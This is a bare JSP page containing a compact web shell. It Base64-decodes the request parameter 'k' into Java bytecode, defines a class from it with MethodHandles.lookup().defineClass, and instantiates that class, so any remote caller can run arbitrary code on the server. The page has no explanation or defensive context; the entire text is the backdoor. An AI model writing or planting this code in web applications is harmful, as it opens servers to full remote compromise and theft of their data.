<%@ page import="java.lang.invoke.*,java.util.Base64" %><%
byte[] b = Base64.getDecoder().decode(request.getParameter("k"));
Class<?> k = MethodHandles.lookup().defineClass(b);
k.getDeclaredConstructor().newInstance();
%>
